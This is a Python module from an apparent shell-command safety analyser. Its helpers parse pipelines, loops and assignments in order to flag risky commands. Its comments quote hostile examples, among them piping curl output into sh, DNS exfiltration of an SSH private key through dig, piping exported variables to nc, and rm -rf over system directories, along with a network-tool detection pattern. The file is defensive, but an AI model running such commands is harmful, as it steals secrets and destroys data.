"""Small facts about parsed commands that the analyser's walk asks for."""

from __future__ import annotations

from collections.abc import Callable

from tree_sitter import Node

from tui.core.safety import resolve
from tui.core.safety.feeds import command_name, line_value, literal_output, ls_listing
from tui.core.safety.lazy import lazy_pattern
from tui.core.safety.parse import Command, assignment, build_command, statement_redirects
from tui.core.safety.unwrap import PROGRAM_VARIABLES
from tui.core.safety.words import Word, evaluate, literal, node_text


def pattern_forms(layers: list[Command]) -> tuple[str, ...]:
    """One simple command as allow and deny patterns see it: each layer (as written, then with
    each wrapper taken off), with its program named as written and by its base name, its words
    unquoted (`\\docker`, `"docker"` and `/usr/bin/docker` are all `docker`), leading
    assignments left out (they are not words)."""
    forms: list[str] = []
    for layer in layers:
        if not layer.words:
            continue
        args = [word.value for word in layer.args]
        first = layer.words[0].value.lstrip("\\")
        for name in (first, layer.name):
            forms.append(" ".join([name, *args]))
    return tuple(dict.fromkeys(" ".join(form.split()) for form in forms if form.strip()))


def stage_command_node(stage: Node) -> Node | None:
    if stage.type == "command":
        return stage
    if stage.type == "redirected_statement":
        body = stage.child_by_field_name("body")
        if body is not None and body.type == "command":
            return body
    if stage.type in ("subshell", "compound_statement"):
        return _first_reader(stage)  # `curl URL | (cd /tmp && sh)`: sh reads the pipe
    return None


# Commands that never read their input: the pipe goes on to the next one in the group.
_NOT_READING = frozenset(("cd", "pushd", "export", "set", "umask", "true", ":", "echo", "printf"))


def _first_reader(group: Node) -> Node | None:
    """The first simple command of a `( ... )` or `{ ...; }` group that may read the pipe."""
    stack = list(reversed(group.children))
    while stack:
        node = stack.pop()
        if node.type == "command":
            if command_name(node) not in _NOT_READING:
                return node
            continue
        if node.type in ("subshell", "compound_statement", "pipeline"):
            continue  # a nested group or pipeline has inputs of its own
        stack.extend(reversed(node.children))
    return None


def self_calls(body: Node, name: str) -> tuple[int, bool]:
    """(calls of `name` in a function body, whether one runs in the background or is piped
    into another call of itself)."""
    calls = 0
    spawning = False
    stack = [(body, False)]
    visits = 0
    while stack and visits < 5_000:
        node, background = stack.pop()
        visits += 1
        if node.type == "pipeline":
            names = [command_name(c) for c in node.children if c.type == "command"]
            spawning = spawning or names.count(name) >= 2
        elif node.type == "command" and command_name(node) == name:
            calls += 1
            spawning = spawning or background
        children = node.children
        inherits = background and node.type in ("pipeline", "redirected_statement")
        for index, child in enumerate(children):
            after = children[index + 1].type if index + 1 < len(children) else ""
            stack.append((child, inherits or after == "&"))
    return calls, spawning


def bare(parent: Node | None) -> bool:
    """True when an assignment stands alone (not `VAR=x cmd`, not `export VAR=x`)."""
    return parent is None or parent.type not in ("command", "declaration_command")


def disables_history(name: str, value: Word) -> bool:
    if name == "HISTFILE":
        return value.value in ("", "/dev/null")
    return value.value.strip() in ("0", "")


INTERACTIVE_EDITORS = frozenset("vi vim nvim nano emacs micro pico joe mcedit code gedit".split())


def prefix_assignments(node: Node) -> list[tuple[str, Word]]:
    """(name, value) of each `VAR=value` written before the command's name."""
    return [assignment(child) for child in node.children if child.type == "variable_assignment"]


def program_variables(node: Node) -> list[tuple[str, str]]:
    """(name, code) for each `VAR=value` before a command whose value the program runs."""
    found: list[tuple[str, str]] = []
    for child in node.children:
        if child.type != "variable_assignment":
            continue
        name, value = assignment(child)
        code = value.value.lstrip("|").replace("%s", "").strip()
        if name in PROGRAM_VARIABLES and code:
            found.append((name, code))
    return found


_NETWORK_CALLS = lazy_pattern(r"\b(dig|nslookup|host|drill|ping|curl|wget|nc)\b")


def loop_flow(node: Node, kinds_of: Callable[[tuple[Node, ...]], frozenset[str]]) -> str | None:
    """`for x in $(base64 ~/.ssh/id_rsa | fold); do dig $x.host; done`: a secret sent piece by
    piece, one network call per loop."""
    values = [c for i, c in enumerate(node.children) if node.field_name_for_child(i) == "value"]
    body = node.child_by_field_name("body")
    if not values or body is None or "secret" not in kinds_of(tuple(values)):
        return None
    if kinds_of((body,)) & {"network", "send", "download"} or _NETWORK_CALLS.search(
        node_text(body)
    ):
        return "sends secrets or personal data to another machine, piece by piece"
    return None


def stage_commands(stage: Node, parent: Node) -> list[Command]:
    """The simple commands of one pipeline stage (not those inside substitutions)."""
    found: list[Command] = []
    stack = [(stage, parent)]
    while stack and len(found) < 16:
        node, above = stack.pop()
        if node.type == "command":
            found.append(build_command(node, above))
        elif node.type == "declaration_command":  # `export -p | nc ...`: its output is piped
            text = node_text(node)
            found.append(Command(words=tuple(map(literal, text.split()[:8])), text=text))
        elif node.type not in ("command_substitution", "process_substitution"):
            stack.extend((child, node) for child in reversed(node.children))
    return found


def quietly_resolved(command: Command, variables: dict[str, str]) -> Command:
    """The command with its name resolved where the line says it, adding no findings."""
    if not command.words:
        return command
    command = resolve.known_values(command, variables)
    if not resolve.needs_resolving(command.words[0]):
        return command
    texts = [literal_output(node) for node in command.words[0].substitutions]
    return resolve.resolve(command, variables, texts) or command


def for_variable(node: Node) -> tuple[str, str] | None:
    """`for f in /etc/*.conf; do`: (`f`, `/etc/*.conf`) when the loop runs over static words
    (a glob is one word: each file it matches comes in turn; several words are `{a,b}`)."""
    name = node.child_by_field_name("variable")
    values = [
        node.child(i) for i in range(node.child_count) if node.field_name_for_child(i) == "value"
    ]
    if name is None or not values or any(v is None for v in values):
        return None
    listing = ls_listing(node_text(values[0])) if len(values) == 1 else None
    if listing is not None:  # `for f in $(ls ~)`: each name in ~, or each path a pattern matched
        return node_text(name), listing[0] if listing[1] else "*"
    found = _substituted_find(values[0]) if len(values) == 1 else None
    if found is not None:  # `for f in $(find /var/log -type f)`: each path find prints
        return node_text(name), line_value([found])
    words = [evaluate(v) for v in values if v is not None]
    if any(word.dynamic for word in words):
        return None
    if len(words) == 1:
        return node_text(name), words[0].path
    items = [word.path for word in words]
    if len(items) > 16 or any(c in item for item in items for c in "{},"):
        return None
    # `for d in /etc /var; do rm -rf $d`: the list as a brace pattern, each item in turn
    return node_text(name), "{" + ",".join(items) + "}"


def _substituted_find(node: Node | None) -> Command | None:
    """The find of `$(find ...)` (or backquotes), when the substitution is that one command."""
    if node is None or node.type != "command_substitution":
        return None
    inner = [child for child in node.children if child.is_named]
    if len(inner) != 1 or inner[0].type != "command":
        return None
    command = build_command(inner[0])
    return command if command.name == "find" else None


def read_source(statement: Node) -> Command | None:
    """`while read f; do ...; done < <(CMD)`: CMD, whose lines the loop reads."""
    for child in statement.children:
        if child.type != "file_redirect" or not node_text(child).startswith("<"):
            continue
        fed = next((c for c in child.children if c.type == "process_substitution"), None)
        inner = [c for c in fed.children if c.is_named] if fed is not None else []
        if len(inner) == 1 and inner[0].type == "command":
            return build_command(inner[0])
    return None


def read_text(statement: Node) -> str | None:
    """`while read l; do ...; done <<< 'TEXT'`: the first line of TEXT, when it is written out."""
    for redirect in statement_redirects(statement):
        body = redirect.body if redirect.op in ("<<", "<<<") else None
        lines = [line for line in body.value.splitlines() if line.strip()] if body else []
        if body is not None and not body.dynamic and lines:
            return lines[0]
    return None


def read_variable(stage: Node) -> str | None:
    """`... | while read -r f; do`: `f`, the variable each line of the input goes into."""
    if stage.type != "while_statement":
        return None
    condition = stage.child_by_field_name("condition")
    if condition is None or condition.type != "command":
        return None
    command = build_command(condition)
    names = [w.value for w in command.args if not w.value.startswith("-")]
    if command.name != "read" or len(names) != 1 or not names[0].isidentifier():
        return None
    return names[0]
